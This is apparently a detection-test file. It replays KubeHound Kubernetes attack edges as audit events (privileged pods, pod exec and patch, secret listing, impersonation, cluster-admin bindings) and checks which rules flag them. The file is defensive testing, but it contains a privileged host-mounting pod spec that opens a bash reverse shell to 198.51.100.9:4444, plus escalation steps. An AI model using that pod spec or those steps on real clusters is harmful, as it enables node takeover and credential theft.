// Datadog's KubeHound attack catalogue (test/fixtures/kubehound, README.md there): the pods, roles
// and bindings its test cluster applies for each attack edge (test/setup/test-cluster/attacks/*.yaml),
// each created by a person's kubectl in the three ways kubectl creates (test/helpers/kubectl-creates.ts),
// and the API requests each edge's documented exploitation makes (docs/reference/attacks/<EDGE>.md),
// sent with the bound token of the pod the edge starts from: POSTed to a running `serve` and read
// back with `events` as a user reads them. Edges whose exploitation never reaches the API server
// (CE_*'s in-container steps, EXPLOIT_HOST_*, TOKEN_STEAL, VOLUME_*, POD_ATTACH through containerd,
// the kubelet's own /logs) are seen only by the pod that sets them up.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { FIXTURES } from '../helpers/fixtures.js';
import { eventMaker } from '../helpers/k8s-events.js';
import { kubectlCreates } from '../helpers/kubectl-creates.js';
import { podIdentity, requester } from '../helpers/pod-requests.js';
import { type Installed, type InstallOutcomes, type Outcome, type ScenarioStep, servedScenarios } from '../helpers/through-serve.js';

type Json = Record<string, unknown>;
const SECRET = 'kubehound-secret-0123456789abcdef';
const DIR = join(FIXTURES, 'kubehound', 'attacks');

const event = eventMaker('4b0d0000', {
  user: { username: 'arn:aws:iam::123456789012:role/platform-admin', groups: ['system:authenticated'] },
  sourceIPs: ['203.0.113.31'],
  userAgent: 'kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47',
  requestReceivedTimestamp: '2026-12-07T10:00:00.000000Z',
  stageTimestamp: '2026-12-07T10:00:00.025000Z',
});

/** The objects of one fixture file, each as `Kind/name` (`Kind/namespace/name` outside default). */
function objects(file: string): { key: string; object: Json; namespace: string }[] {
  return parseAllDocuments(readFileSync(join(DIR, file), 'utf8'))
    .map((d) => d.toJS() as Json | null)
    .filter((o): o is Json => o !== null)
    .map((object) => {
      const meta = object.metadata as Json;
      const namespace = (meta.namespace as string | undefined) ?? 'default';
      const where = namespace === 'default' ? '' : `${namespace}/`;
      return { key: `${object.kind as string}/${where}${meta.name as string}`, object, namespace };
    });
}

// What a person creating each object sees (the same for its three creates). A ServiceAccount,
// Role or binding is the table's sensitive rows (high, an alert); a plain pod is row 6 (medium);
// the edges' pods name the rule that sees their property.
const SA: Outcome = ['high', 'sensitive-resource-change'];
const ROLE: Outcome = ['high', 'sensitive-resource-change'];
const ESCALATING_ROLE: Outcome = ['high', 'sensitive-resource-change', ['rbac-escalation-verbs-or-wildcards']];
const BINDING: Outcome = ['high', 'rbac-binding-change'];
const POD: Outcome = ['medium', 'workload-change'];
/** An edge's setup: its ServiceAccount, its Role and binding to it, and the pod running as it. */
const setup = (sa: string, role: string, binding: string, pod: string, roleOutcome = ROLE): Record<string, Outcome> => ({
  [`ServiceAccount/${sa}`]: SA,
  [`Role/${role}`]: roleOutcome,
  [`RoleBinding/${binding}`]: BINDING,
  [`Pod/${pod}`]: POD,
});
/**
 * The ROLE_BIND_* files' four objects per case `x`: its service account, the escalating (Cluster)Role,
 * the binding of the pod's account to it, and the pod.
 */
function roleBindSetup(
  cases: string[],
  role: 'Role' | 'ClusterRole',
  binding: 'RoleBinding' | 'ClusterRoleBinding',
): Record<string, Outcome> {
  return Object.fromEntries(
    cases.flatMap((x) => [
      [`ServiceAccount/rolebind-sa-${x}`, SA],
      [`${role}/rolebind-${x}`, ESCALATING_ROLE],
      // One binding's name is misspelt upstream (pod-bind-rola-crb-cr-rb-r), kept as published.
      [`${binding}/pod-bind-${x === 'crb-cr-rb-r' ? 'rola' : 'role'}-${x}`, BINDING],
      [`Pod/rolebind-pod-${x}`, POD],
    ]),
  );
}

const INSTALLS: InstallOutcomes[] = [
  { file: 'CE_MODULE_LOAD.yaml', expect: { 'Pod/modload-pod': ['high', 'rule:dangerous-capabilities', ['dangerous-capabilities']] } },
  {
    // Not in the edges' documentation (CE_NET_MITM has none), in the test cluster: NET_ADMIN on the host network.
    file: 'CE_NET_MITM.yaml',
    expect: { 'Pod/netadmin-pod': ['high', 'rule:dangerous-capabilities', ['host-network', 'dangerous-capabilities']] },
  },
  {
    file: 'CE_NSENTER.yaml',
    expect: { 'Pod/nsenter-pod': ['high', 'rule:privileged-container', ['privileged-container', 'host-pid-or-ipc']] },
  },
  { file: 'CE_PRIV_MOUNT.yaml', expect: { 'Pod/priv-pod': ['high', 'rule:privileged-container', ['privileged-container']] } },
  {
    // hostPID, SYS_PTRACE and SYS_ADMIN, AppArmor Unconfined (what 1.31's default profile would stop).
    file: 'CE_SYS_PTRACE.yaml',
    expect: {
      'Pod/sys-ptrace-pod': ['high', 'rule:host-pid-or-ipc', ['host-pid-or-ipc', 'dangerous-capabilities', 'container-isolation-disabled']],
    },
  },
  { file: 'CE_UMH_CORE_PATTERN.yaml', expect: { 'Pod/umh-core-pod': ['high', 'rule:sensitive-host-path', ['sensitive-host-path']] } },
  {
    file: 'CE_VAR_LOG_SYMLINK.yaml',
    // Medium, not high: log shippers mount /var/log too (rules/workloads.yaml host-log-mount says why).
    expect: {
      ...setup('varlog-sa', 'read-logs', 'pod-read-logs', 'varlog-pod'),
      'Pod/varlog-pod': ['medium', 'workload-change', ['host-log-mount']],
    },
  },
  { file: 'CONTROL_POD.yaml', expect: { 'Pod/control-pod': POD } },
  {
    file: 'ENDPOINT_EXPLOIT.yaml',
    expect: {
      'Pod/endpoints-pod': ['high', 'rule:privileged-container', ['privileged-container', 'host-pid-or-ipc']],
      'Service/webproxy-service': ['info', 'steady-state'],
    },
  },
  {
    // /root/.ssh and /var/lib/kubelet/pods, both read-only: read access is enough to take the node's keys and every pod's token.
    file: 'EXPLOIT_HOST_READ_TRAVERSE.yaml',
    expect: { 'Pod/host-read-exploit-pod': ['high', 'rule:sensitive-host-path', ['sensitive-host-path']] },
  },
  {
    file: 'EXPLOIT_HOST_WRITE.yaml',
    expect: { 'Pod/host-write-exploit-pod': ['high', 'rule:sensitive-host-path', ['sensitive-host-path']] },
  },
  // Listing pods granted to the group every kubelet is in.
  { file: 'IDENTITY_ASSUME.yaml', expect: { 'ClusterRole/node-api-access': ROLE, 'ClusterRoleBinding/node-api-access': BINDING } },
  {
    file: 'IDENTITY_IMPERSONATE.yaml',
    expect: setup('impersonate-sa', 'impersonate', 'pod-impersonate', 'impersonate-pod', ESCALATING_ROLE),
  },
  { file: 'POD_CREATE.yaml', expect: setup('pod-create-sa', 'create-pods', 'pod-create-pods', 'pod-create-pod') },
  { file: 'POD_EXEC.yaml', expect: setup('pod-exec-sa', 'exec-pods', 'pod-exec-pods', 'pod-exec-pod') },
  { file: 'POD_PATCH.yaml', expect: setup('pod-patch-sa', 'patch-pods', 'pod-patch-pods', 'pod-patch-pod') },
  {
    file: 'ROLE_BIND_ALL.yaml',
    expect: { 'Role/admin': ESCALATING_ROLE, 'Role/vault/admin': ESCALATING_ROLE, 'Pod/vault/vault-pod': POD },
  },
  {
    file: 'ROLE_BIND_CRB_CR.yaml',
    expect: roleBindSetup(['crb-cr-crb-cr', 'crb-cr-rb-cr', 'crb-cr-crb-r-fail', 'crb-cr-rb-r'], 'ClusterRole', 'ClusterRoleBinding'),
  },
  {
    file: 'ROLE_BIND_RB_CR-SA.yaml',
    expect: roleBindSetup(['rb-cr-crb-cr-fail', 'rb-cr-rb-cr', 'rb-cr-rb-r'], 'ClusterRole', 'RoleBinding'),
  },
  { file: 'ROLE_BIND_RB_R-SA.yaml', expect: roleBindSetup(['rb-r-rb-r', 'rb-r-crb-cr-fail', 'rb-r-rb-crb'], 'Role', 'RoleBinding') },
  {
    file: 'ROLE_BIND_RB_R-UG.yaml',
    expect: Object.fromEntries(
      ['rb-r-rb-r', 'rb-r-crb-cr-fail', 'rb-r-rb-crb'].flatMap((x) => [
        [`RoleBinding/pod-bind-role-${x}-g`, BINDING],
        [`RoleBinding/pod-bind-role-${x}-u`, BINDING],
      ]),
    ),
  },
  {
    // Containers of one pod seeing each other's processes (and, through /proc/PID/root, files): no
    // boundary crossed, the same pod and service account; no rule (docs/detection-rules.md says why).
    file: 'SHARE_PS_NAMESPACE.yaml',
    expect: { 'Pod/sharedps-pod1': POD, 'Pod/sharedps-pod2': POD },
  },
  { file: 'TOKEN_BRUTEFORCE.yaml', expect: setup('tokenget-sa', 'read-secrets', 'pod-get-secrets', 'tokenget-pod') },
  { file: 'TOKEN_LIST.yaml', expect: setup('tokenlist-sa', 'list-secrets', 'pod-list-secrets', 'tokenlist-pod') },
];

const INSTALLED: Installed[] = INSTALLS.flatMap(({ file }) =>
  objects(file).map(({ key, object, namespace }) => ({ file, key, events: kubectlCreates(event, object, namespace) })),
);

// The attacker is in the edge's pod with its service account's bound token, and kubectl the
// documentation installs there (ROLE_BIND.md: curl of dl.k8s.io's stable kubectl).
const request = requester(event);
const KUBECTL = 'kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47';
const POD_IP = '10.244.1.17';
const NODE = 'kubehound.test.local-worker';
const from = (sa: string, pod: string) => podIdentity('default', sa, pod, NODE);
const RBAC = 'rbac.authorization.k8s.io';
const ref = (resource: string, name?: string, more: Json = {}): Json => ({
  resource,
  namespace: 'default',
  ...(name === undefined ? {} : { name }),
  ...more,
});
const PATCHED_IMAGE = 'kalilinux/kali-last-release';

/** `kubectl create rolebinding|clusterrolebinding NAME --role|--clusterrole=ROLE --serviceaccount=default:SA`, as kubectl sends it. */
function bindingCreate(
  by: Json,
  kind: 'RoleBinding' | 'ClusterRoleBinding',
  name: string,
  roleKind: string,
  role: string,
  sa: string,
): Json {
  const namespaced = kind === 'RoleBinding';
  const resource = namespaced ? 'rolebindings' : 'clusterrolebindings';
  const body = {
    kind,
    apiVersion: `${RBAC}/v1`,
    metadata: { name, ...(namespaced ? { namespace: 'default' } : {}), creationTimestamp: null },
    roleRef: { apiGroup: RBAC, kind: roleKind, name: role },
    subjects: [{ kind: 'ServiceAccount', name: sa, namespace: 'default' }],
  };
  return request(
    by,
    KUBECTL,
    POD_IP,
    'create',
    `/apis/${RBAC}/v1${namespaced ? '/namespaces/default' : ''}/${resource}?fieldManager=kubectl-create&fieldValidation=Strict`,
    { resource, ...(namespaced ? { namespace: 'default' } : {}), name, apiGroup: RBAC },
    201,
    { requestObject: body, responseObject: body },
  );
}

// POD_CREATE.md's attack pod (hostNetwork, hostPID, hostIPC, privileged, the node's / mounted), as written there.
const ATTACK_POD = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'control-plane-attack', labels: { app: 'pentest' } },
  spec: {
    hostNetwork: true,
    hostPID: true,
    hostIPC: true,
    containers: [
      {
        name: 'control-plane-attack',
        image: 'ubuntu',
        securityContext: { privileged: true },
        volumeMounts: [{ mountPath: '/host', name: 'noderoot' }],
        command: ['/bin/sh', '-c', '--'],
        args: ['bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
      },
    ],
    nodeName: NODE,
    volumes: [{ name: 'noderoot', hostPath: { path: '/' } }],
  },
};

const PATCHER = from('pod-patch-sa', 'pod-patch-pod');
const STEPS: ScenarioStep[] = [
  {
    scenario: 'POD_PATCH',
    step: 'kubectl patch pod control-pod --patch-file patch.yaml (the image swapped for a backdoored one)',
    event: request(
      PATCHER,
      KUBECTL,
      POD_IP,
      'patch',
      '/api/v1/namespaces/default/pods/control-pod?fieldManager=kubectl-patch',
      ref('pods', 'control-pod'),
      200,
      {
        requestObject: { spec: { containers: [{ name: 'control-pod', image: PATCHED_IMAGE }] } },
      },
    ),
    outcome: ['high', 'rule:ephemeral-container', ['ephemeral-container']],
  },
  {
    scenario: 'POD_PATCH',
    step: 'the same by kubectl patch --type=json (replace /spec/containers/0/image)',
    event: request(
      PATCHER,
      KUBECTL,
      POD_IP,
      'patch',
      '/api/v1/namespaces/default/pods/control-pod?fieldManager=kubectl-patch',
      ref('pods', 'control-pod'),
      200,
      {
        requestObject: [{ op: 'replace', path: '/spec/containers/0/image', value: PATCHED_IMAGE }],
      },
    ),
    outcome: ['high', 'rule:ephemeral-container', ['ephemeral-container']],
  },
  {
    scenario: 'POD_PATCH',
    step: 'the same patch refused (403)',
    event: request(
      PATCHER,
      KUBECTL,
      POD_IP,
      'patch',
      '/api/v1/namespaces/default/pods/vault-pod?fieldManager=kubectl-patch',
      ref('pods', 'vault-pod', { namespace: 'vault' }),
      403,
      {
        requestObject: { spec: { containers: [{ name: 'vault-pod', image: PATCHED_IMAGE }] } },
      },
    ),
    outcome: POD,
  },
  {
    // kubectl 1.31's exec is a WebSocket upgrade: a GET of pods/exec answered 101.
    scenario: 'POD_EXEC',
    step: 'kubectl exec --stdin --tty control-pod -- /bin/bash',
    event: request(
      from('pod-exec-sa', 'pod-exec-pod'),
      KUBECTL,
      POD_IP,
      'get',
      '/api/v1/namespaces/default/pods/control-pod/exec?command=%2Fbin%2Fbash&container=control-pod&stdin=true&stdout=true&tty=true',
      ref('pods', 'control-pod', { subresource: 'exec' }),
      101,
    ),
    outcome: ['high', 'pod-interactive-access'],
  },
  {
    scenario: 'POD_CREATE',
    step: "kubectl apply -f control-plane-pod-spec.yaml (the documentation's attack pod)",
    event: request(
      from('pod-create-sa', 'pod-create-pod'),
      KUBECTL,
      POD_IP,
      'create',
      '/api/v1/namespaces/default/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
      ref('pods', 'control-plane-attack'),
      201,
      { requestObject: ATTACK_POD, responseObject: ATTACK_POD },
    ),
    outcome: [
      'high',
      'rule:privileged-container',
      ['privileged-container', 'host-pid-or-ipc', 'host-network', 'sensitive-host-path', 'reverse-shell-command'],
    ],
  },
  {
    // Its own namespace's Secrets by a workload's token with kubectl (row 8's low before: what CI jobs' kubectl reads too).
    scenario: 'TOKEN_LIST',
    step: 'kubectl get secrets -o json',
    event: request(
      from('tokenlist-sa', 'tokenlist-pod'),
      KUBECTL,
      POD_IP,
      'list',
      '/api/v1/namespaces/default/secrets?limit=500',
      ref('secrets'),
      200,
    ),
    outcome: ['medium', 'rule:workload-secret-read-by-http-tool', ['workload-secret-read-by-http-tool']],
  },
  {
    scenario: 'TOKEN_BRUTEFORCE',
    step: 'a guessed legacy token Secret name (404)',
    event: request(
      from('tokenget-sa', 'tokenget-pod'),
      KUBECTL,
      POD_IP,
      'get',
      '/api/v1/namespaces/default/secrets/pod-exec-sa-token-7x2kq',
      ref('secrets', 'pod-exec-sa-token-7x2kq'),
      404,
    ),
    // kubectl with a pod's token: the guess itself is the signal (it was low, routine-get-not-found).
    outcome: ['medium', 'rule:workload-secret-read-by-http-tool', ['workload-secret-read-by-http-tool']],
  },
  {
    scenario: 'IDENTITY_IMPERSONATE',
    step: 'kubectl get secrets --as=null --as-group=system:masters -o json',
    event: request(
      from('impersonate-sa', 'impersonate-pod'),
      KUBECTL,
      POD_IP,
      'list',
      '/api/v1/namespaces/default/secrets?limit=500',
      ref('secrets'),
      200,
      {
        impersonatedUser: { username: 'null', groups: ['system:masters', 'system:authenticated'] },
      },
    ),
    outcome: ['high', 'impersonation', ['workload-secret-read-by-http-tool']],
  },
  {
    scenario: 'PERMISSION_DISCOVER',
    step: 'kubectl auth can-i --list',
    event: request(
      from('pod-exec-sa', 'pod-exec-pod'),
      KUBECTL,
      POD_IP,
      'create',
      '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
      { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' },
      201,
      {
        requestObject: {
          kind: 'SelfSubjectRulesReview',
          apiVersion: 'authorization.k8s.io/v1',
          metadata: { creationTimestamp: null },
          spec: { namespace: 'default' },
          status: { resourceRules: null, nonResourceRules: null, incomplete: false },
        },
      },
    ),
    outcome: ['medium', 'rule:workload-permission-discovery', ['workload-permission-discovery']],
  },
  {
    scenario: 'ROLE_BIND',
    step: 'kubectl create rolebinding rbr-admin --role=admin --serviceaccount=default:rolebind-sa-rb-r-rb-r',
    event: bindingCreate(
      from('rolebind-sa-rb-r-rb-r', 'rolebind-pod-rb-r-rb-r'),
      'RoleBinding',
      'rbr-admin',
      'Role',
      'admin',
      'rolebind-sa-rb-r-rb-r',
    ),
    outcome: BINDING,
  },
  {
    scenario: 'ROLE_BIND',
    step: 'kubectl create rolebinding r-cr-admin --clusterrole=cluster-admin --serviceaccount=default:rolebind-sa-rb-cr-rb-cr',
    event: bindingCreate(
      from('rolebind-sa-rb-cr-rb-cr', 'rolebind-pod-rb-cr-rb-cr'),
      'RoleBinding',
      'r-cr-admin',
      'ClusterRole',
      'cluster-admin',
      'rolebind-sa-rb-cr-rb-cr',
    ),
    outcome: ['high', 'rbac-binding-change', ['cluster-admin-binding']],
  },
  {
    scenario: 'ROLE_BIND',
    step: 'kubectl create clusterrolebinding cr-cr-admin --clusterrole=cluster-admin --serviceaccount=default:rolebind-sa-crb-cr-crb-cr',
    event: bindingCreate(
      from('rolebind-sa-crb-cr-crb-cr', 'rolebind-pod-crb-cr-crb-cr'),
      'ClusterRoleBinding',
      'cr-cr-admin',
      'ClusterRole',
      'cluster-admin',
      'rolebind-sa-crb-cr-crb-cr',
    ),
    outcome: ['high', 'rbac-binding-change', ['cluster-admin-binding']],
  },
  {
    // CE_VAR_LOG_SYMLINK.md reads the symlink through the kubelet's port; through the API server
    // the same read is the node proxy.
    scenario: 'CE_VAR_LOG_SYMLINK',
    step: 'kubectl get --raw /api/v1/nodes/NODE/proxy/logs/root_link/var/lib/kubelet/pods/',
    event: request(
      from('varlog-sa', 'varlog-pod'),
      KUBECTL,
      POD_IP,
      'get',
      `/api/v1/nodes/${NODE}/proxy/logs/root_link/var/lib/kubelet/pods/`,
      { resource: 'nodes', name: NODE, subresource: 'proxy' },
      200,
    ),
    outcome: ['high', 'rule:node-proxy-access', ['node-proxy-access']],
  },
  {
    // Its own 0.log made a symlink to a host file, read back as the pod's log: a log read as any other.
    scenario: 'CE_VAR_LOG_SYMLINK',
    step: 'kubectl logs varlog-pod',
    event: request(
      from('varlog-sa', 'varlog-pod'),
      KUBECTL,
      POD_IP,
      'get',
      '/api/v1/namespaces/default/pods/varlog-pod/log?container=varlog-container',
      ref('pods', 'varlog-pod', { subresource: 'log' }),
      200,
    ),
    outcome: ['info', 'steady-state'],
  },
];

describe("KubeHound's attack edges through serve", () => {
  const served = servedScenarios('aisoc-kubehound-', SECRET, 'kubehound', INSTALLS, INSTALLED, STEPS);

  it('every fixture file is installed', () => {
    expect(INSTALLS.map((i) => i.file).sort()).toEqual(readdirSync(DIR).sort());
  });

  it('no secret of the request reaches a record', () => {
    expect(JSON.stringify(served.records)).not.toContain(SECRET);
  });
});
